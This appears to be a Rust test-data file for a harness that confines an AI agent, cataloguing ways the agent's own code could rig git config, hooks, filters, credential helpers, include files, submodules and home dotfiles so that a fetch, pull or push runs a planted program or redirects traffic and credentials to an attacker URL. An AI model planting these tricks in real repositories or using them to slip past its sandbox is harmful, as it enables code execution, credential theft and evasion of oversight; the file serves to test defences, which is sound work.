//! What an agent's own program may write into its workspace and its home to be run by git, or to lead git
//! elsewhere. `TRAP` is a program that leaves a trace, `ATTACKER` and `ORIGIN` are URLs, `HOME` the home.

/// One way.
pub struct Vector {
    pub name: &'static str,
    pub ways: &'static [Way],
}

/// What is written.
pub enum Way {
    /// At the end of `.git/config`.
    Config(&'static str),
    /// A file of the home, with this text.
    File(&'static str, &'static str),
    /// A program of the home that leaves a trace.
    Hook(&'static str),
    /// A shell command in the workspace.
    Shell(&'static str),
}

use Way::{Config, File, Hook, Shell};

const fn config(name: &'static str, ways: &'static [Way]) -> Vector {
    Vector { name, ways }
}

const REMOTE: &str = "[remote \"origin\"]\n\turl = ext::TRAP\n[protocol \"ext\"]\n\tallow = always\n";
const ATTRIBUTES: Way = File("workspace/.git/info/attributes", "* filter=evil merge=evil diff=evil\n");
/// A repository inside the workspace that the superproject knows.
const SUBMODULE: Way = Shell(
    "mkdir sub && cd sub && git init -q -b main && git -c user.name=a -c user.email=a@x commit -q --allow-empty -m x \
     && git update-ref refs/remotes/origin/main HEAD \
     && git -c user.name=a -c user.email=a@x commit -q --allow-empty -m y && cd .. && git -c core.hooksPath=/dev/null add sub 2>/dev/null \
     && printf '[submodule \"sub\"]\n\tpath = sub\n\turl = ./sub\n' >.gitmodules && git add .gitmodules \
     && git -c user.name=a -c user.email=a@x commit -q -m sub",
);
const INNER: Way = Shell(
    "git -C sub config remote.origin.url ext::TRAP; git -C sub config remote.origin.fetch +refs/heads/*:refs/remotes/origin/*; \
     git -C sub config protocol.ext.allow always",
);

/// Each fires under plain git in a fetch, a pull or a push: a test makes sure.
pub const VECTORS: &[Vector] = &[
    config("url.*.insteadOf", &[Config("[url \"ATTACKER\"]\n\tinsteadOf = ORIGIN\n")]),
    config("url.*.pushInsteadOf", &[Config("[url \"ATTACKER\"]\n\tpushInsteadOf = ORIGIN\n")]),
    config("remote.*.url, another host", &[Config("[remote \"origin\"]\n\turl = ATTACKERa/r.git\n")]),
    config("remote.*.url, ext::", &[Config(REMOTE)]),
    config("remote.*.pushurl", &[Config("[remote \"origin\"]\n\tpushurl = ATTACKERa/r.git\n")]),
    config(
        "remote.*.pushurl, ext::",
        &[Config("[remote \"origin\"]\n\tpushurl = ext::TRAP\n[protocol]\n\tallow = always\n")],
    ),
    config("remote.*.fetch", &[Config("[remote \"origin\"]\n\tfetch = +refs/heads/*:refs/heads/stolen/*\n")]),
    config("remote.*.proxy", &[Config("[remote \"origin\"]\n\tproxy = ATTACKER\n")]),
    config(
        "remote.*.uploadpack of a folder",
        &[Config(
            "[url \"HOME/workspace/.git\"]\n\tinsteadOf = ORIGINa/r.git\n[remote \"origin\"]\n\tuploadpack = TRAP\n",
        )],
    ),
    config(
        "remote.*.receivepack of a folder",
        &[Config(
            "[url \"HOME/workspace/.git\"]\n\tpushInsteadOf = ORIGINa/r.git\n[remote \"origin\"]\n\treceivepack = TRAP\n",
        )],
    ),
    config(
        "core.sshCommand",
        &[Config("[url \"ssh://git@127.0.0.1/\"]\n\tinsteadOf = ORIGIN\n[core]\n\tsshCommand = TRAP\n")],
    ),
    config(
        "core.gitProxy",
        &[Config("[url \"git://127.0.0.1/\"]\n\tinsteadOf = ORIGIN\n[core]\n\tgitProxy = TRAP\n")],
    ),
    config("credential.helper", &[Config("[credential]\n\thelper = \"!TRAP\"\n")]),
    config("credential.<url>.helper", &[Config("[credential \"ORIGIN\"]\n\thelper = \"!TRAP\"\n")]),
    config("core.askPass", &[Config("[credential]\n\thelper =\n[core]\n\taskPass = TRAP\n")]),
    config("http.proxy", &[Config("[http]\n\tproxy = ATTACKER\n")]),
    config("http.<url>.proxy", &[Config("[http \"ORIGIN\"]\n\tproxy = ATTACKER\n")]),
    config("http.extraHeader", &[Config("[http]\n\textraHeader = \"Authorization: Basic ZXZpbA==\"\n")]),
    config(
        "http.<url>.extraHeader",
        &[Config("[http \"ORIGIN\"]\n\textraHeader = \"Authorization: Basic ZXZpbA==\"\n")],
    ),
    config("http.curloptResolve", &[Config("[http]\n\tcurloptResolve = ORIGINHOST:ATTACKERIP\n")]),
    config("http.saveCookies", &[Config("[http]\n\tsaveCookies = true\n\tcookieFile = HOME/fired\n")]),
    config("fetch.bundleURI", &[Config("[fetch]\n\tbundleURI = ATTACKERbundle\n")]),
    config("core.fsmonitor", &[Config("[core]\n\tfsmonitor = TRAP\n")]),
    config(
        "core.hooksPath",
        &[Hook("hooks/reference-transaction"), Config("[core]\n\thooksPath = HOME/hooks\n")],
    ),
    config("hook pre-push", &[Hook("workspace/.git/hooks/pre-push")]),
    config("hook reference-transaction", &[Hook("workspace/.git/hooks/reference-transaction")]),
    config("hook post-checkout", &[Hook("workspace/.git/hooks/post-checkout")]),
    config("hook post-index-change", &[Hook("workspace/.git/hooks/post-index-change")]),
    config("hook pre-rebase", &[Hook("workspace/.git/hooks/pre-rebase")]),
    config("hook post-rewrite", &[Hook("workspace/.git/hooks/post-rewrite")]),
    config(
        "hook post-merge",
        &[Hook("workspace/.git/hooks/post-merge"), Config("[pull]\n\trebase = false\n")],
    ),
    config(
        "filter.*.clean and smudge",
        &[ATTRIBUTES, Config("[filter \"evil\"]\n\tclean = TRAP\n\tsmudge = TRAP\n")],
    ),
    config("filter.*.process", &[ATTRIBUTES, Config("[filter \"evil\"]\n\tprocess = TRAP\n")]),
    config(
        "core.attributesFile",
        &[
            File("attributes", "* filter=evil\n"),
            Config("[core]\n\tattributesFile = HOME/attributes\n[filter \"evil\"]\n\tsmudge = TRAP\n"),
        ],
    ),
    config("merge.*.driver", &[ATTRIBUTES, Config("[merge \"evil\"]\n\tdriver = TRAP %A\n")]),
    config(
        "include.path",
        &[File("inc", "[core]\n\tfsmonitor = TRAP\n"), Config("[include]\n\tpath = HOME/inc\n")],
    ),
    config(
        "includeIf.gitdir",
        &[
            File("inc", "[url \"ATTACKER\"]\n\tinsteadOf = ORIGIN\n"),
            Config("[includeIf \"gitdir:**\"]\n\tpath = HOME/inc\n"),
        ],
    ),
    config(
        "includeIf.hasconfig",
        &[
            File("inc", "[core]\n\tfsmonitor = TRAP\n"),
            Config("[includeIf \"hasconfig:remote.*.url:**\"]\n\tpath = HOME/inc\n"),
        ],
    ),
    config(
        "config.worktree",
        &[
            File("workspace/.git/config.worktree", "[core]\n\tfsmonitor = TRAP\n"),
            Config("[extensions]\n\tworktreeConfig = true\n"),
        ],
    ),
    config("gpg.program", &[Config("[gpg]\n\tprogram = TRAP\n[commit]\n\tgpgSign = true\n")]),
    config(
        "gpg.ssh.defaultKeyCommand",
        &[Config(
            "[gpg]\n\tformat = ssh\n[gpg \"ssh\"]\n\tdefaultKeyCommand = TRAP\n[commit]\n\tgpgSign = true\n",
        )],
    ),
    config(
        "gpg.ssh.program",
        &[Config(
            "[gpg]\n\tformat = ssh\n[gpg \"ssh\"]\n\tprogram = TRAP\n[user]\n\tsigningKey = key::x\n[commit]\n\tgpgSign = true\n",
        )],
    ),
    config("sequence.editor", &[Config("[pull]\n\trebase = interactive\n[sequence]\n\teditor = TRAP\n")]),
    config("core.editor", &[Config("[pull]\n\trebase = interactive\n[core]\n\teditor = TRAP\n")]),
    config(
        "core.alternateRefsCommand, with info/alternates",
        &[
            Shell(
                "git init -q --bare ../other.git && echo HOME/other.git/objects >.git/objects/info/alternates",
            ),
            Config("[core]\n\talternateRefsCommand = TRAP\n"),
        ],
    ),
    config(
        "extensions.partialClone, a promisor elsewhere",
        &[
            Config(
                "[core]\n\trepositoryformatversion = 1\n[extensions]\n\tpartialClone = evil\n[remote \"evil\"]\n\turl = ATTACKERa/r.git\n\tpromisor = true\n",
            ),
            Shell(
                "git repack -qad; git unpack-objects -q <$(ls .git/objects/pack/*.pack) 2>/dev/null; \
                   for pack in .git/objects/pack/*.pack; do mv $pack ../pack; rm -f ${pack%.pack}.*; git unpack-objects -q <../pack; done; \
                   blob=$(git rev-parse HEAD:f); rm -f .git/objects/$(echo $blob | cut -c1-2)/$(echo $blob | cut -c3-)",
            ),
        ],
    ),
    config("fetch.recurseSubmodules", &[SUBMODULE, INNER, Config("[fetch]\n\trecurseSubmodules = true\n")]),
    config("submodule.recurse", &[SUBMODULE, INNER, Config("[submodule]\n\trecurse = true\n")]),
    config(
        "commondir",
        &[
            Shell(
                "cp -a .git ../shared && echo HOME/shared >.git/commondir && rm -rf .git/refs .git/packed-refs && mkdir .git/refs",
            ),
            File(
                "shared/config",
                "[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tfsmonitor = TRAP\n[remote \"origin\"]\n\turl = ATTACKERa/r.git\n",
            ),
        ],
    ),
    config(
        "a file .git",
        &[
            Config("[core]\n\tfsmonitor = TRAP\n[remote \"origin\"]\n\turl = ATTACKERa/r.git\n"),
            Shell("mv .git ../moved && echo 'gitdir: HOME/moved' >.git"),
        ],
    ),
    config(
        "a link .git",
        &[Config("[core]\n\tfsmonitor = TRAP\n"), Shell("mv .git ../moved && ln -s ../moved .git")],
    ),
    config(
        "~/.gitconfig",
        &[File(".gitconfig", "[url \"ATTACKER\"]\n\tinsteadOf = ORIGIN\n[core]\n\tfsmonitor = TRAP\n")],
    ),
    config(
        "~/.config/git/config",
        &[File(".config/git/config", "[core]\n\thooksPath = HOME/hooks\n"), Hook("hooks/pre-push")],
    ),
    config("~/.netrc", &[File(".netrc", "machine ORIGINIP login evil password evil\n")]),
    config("trace2.normalTarget", &[File(".gitconfig", "[trace2]\n\tnormalTarget = HOME/fired\n")]),
    config(
        "core.worktree",
        &[
            Shell("cp -a . ../elsewhere && rm -rf ../elsewhere/.git"),
            Config("[core]\n\tworktree = HOME/elsewhere\n"),
        ],
    ),
];

/// Does not fire under plain git of the version that these tests were written with, in a fetch, a pull or a
/// push: tried all the same, and not counted.
pub const QUIET: &[Vector] = &[
    config(
        "alias",
        &[Config("[alias]\n\tfetch = !TRAP\n\tpush = !TRAP\n\tpull = !TRAP\n\trebase = !TRAP\n")],
    ),
    config(
        "hook.*.command, from git 2.54",
        &[Config(
            "[hook \"evil\"]\n\tcommand = TRAP\n\tevent = pre-push\n\tevent = reference-transaction\n\tevent = post-checkout\n",
        )],
    ),
    config(
        "submodule.*.update",
        &[
            SUBMODULE,
            Config(
                "[submodule]\n\trecurse = true\n[submodule \"sub\"]\n\tactive = true\n\turl = ./sub\n\tupdate = !TRAP\n",
            ),
        ],
    ),
    config(
        "push.recurseSubmodules",
        &[SUBMODULE, INNER, Config("[push]\n\trecurseSubmodules = on-demand\n")],
    ),
    config("core.pager", &[Config("[core]\n\tpager = TRAP\n[pager]\n\tpush = TRAP\n\tfetch = TRAP\n")]),
    config(
        "diff.external and textconv",
        &[
            ATTRIBUTES,
            Config("[diff]\n\texternal = TRAP\n[diff \"evil\"]\n\ttextconv = TRAP\n\tcommand = TRAP\n"),
        ],
    ),
    config("uploadpack.packObjectsHook", &[Config("[uploadpack]\n\tpackObjectsHook = TRAP\n")]),
    config(
        "what an unfinished rebase would run",
        &[Shell(
            "mkdir .git/rebase-merge && echo 'exec TRAP' >.git/rebase-merge/git-rebase-todo && git rev-parse HEAD >.git/rebase-merge/onto \
         && git rev-parse HEAD >.git/rebase-merge/orig-head && echo refs/heads/agent-a1-t1 >.git/rebase-merge/head-name && touch .git/rebase-merge/interactive",
        )],
    ),
    config(
        "interactive.diffFilter and mergetool",
        &[Config(
            "[interactive]\n\tdiffFilter = TRAP\n[mergetool \"x\"]\n\tcmd = TRAP\n[merge]\n\ttool = x\n",
        )],
    ),
];
